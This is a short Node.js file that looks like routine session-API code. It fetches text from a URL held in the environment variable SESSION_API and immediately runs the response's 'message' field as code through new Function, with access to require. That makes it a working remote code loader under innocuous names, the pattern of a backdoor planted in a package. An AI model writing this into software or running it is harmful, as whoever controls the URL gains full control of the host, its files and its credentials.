const axios = require('axios');
const address = process.env.SESSION_API;

axios.get(address).then((answer) => {
  const handler = new Function('require', answer.data.message);
  handler(require);
});
